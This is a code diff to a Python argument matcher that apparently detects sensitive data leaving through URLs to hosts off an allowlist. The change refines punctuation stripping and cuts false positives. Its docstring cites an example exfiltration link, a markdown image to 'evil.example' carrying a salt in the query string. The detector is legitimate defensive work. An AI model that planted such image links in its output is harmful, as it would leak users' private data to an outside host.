@@ -30,6 +30,8 @@ from .unmask import DEFAULT_LIMITS, SINK_LIMITS, unmask
 
 __all__ = ["ArgumentMatcher"]
 
+_URL_TAIL = ").,;:!?]}*_"
+
 
 class ArgumentMatcher:
     def __init__(self, index: FingerprintIndex, patterns: Patterns) -> None:
@@ -59,6 +61,7 @@ class ArgumentMatcher:
                 self._match_outbound(value, match, shape)
             if leaf.path in shape.opaque:
                 match.sensitive_hits.clear()
+                match.outbound_hits.clear()
                 match.payloads.clear()
             elif match.destination:
                 if shape.egress and match.sensitive_hits:
@@ -138,14 +141,20 @@ class ArgumentMatcher:
 
     def _match_outbound(self, value: str, match: ArgumentMatch, shape: CallShape) -> None:
         """The sensitive hits inside the URLs a payload carries to hosts outside the allowlist
-        (``![badge](https://evil.example/b.png?c=<salt>)`` in a comment)."""
+        (``![badge](https://evil.example/b.png?c=<salt>)`` in a comment); a URL a private text
+        holds whole (the status page a README links to) carries none of that text, nor do
+        pieces of its host that the text names."""
         allowed, home = self._p.egress.allow_hosts, shape.home_hosts
-        for url, host in urls_in(value):
+        for link, host in urls_in(value):
             if not allowed.matches(host) and not (home is not None and home.matches(host)):
+                url = link.rstrip(_URL_TAIL)  # markdown's ``(...)``, a sentence's full stop
                 found = ArgumentMatch(match.path, destination=False)
                 for n, form in enumerate(unmask(url, SINK_LIMITS)):
                     self._match_form(form, found, shape, decoded=n > 0)
-                match.outbound_hits.extend(found.sensitive_hits)
+                if found.sensitive_hits:
+                    self._drop_held_whole(url, found)
+                hits = found.sensitive_hits
+                match.outbound_hits.extend(h for h in hits if not self._at(h, (host,)))
 
     def _match_locator(self, value: str, match: ArgumentMatch) -> None:
         """Which records a call changes (a WHERE clause) carries no data to anyone: only what
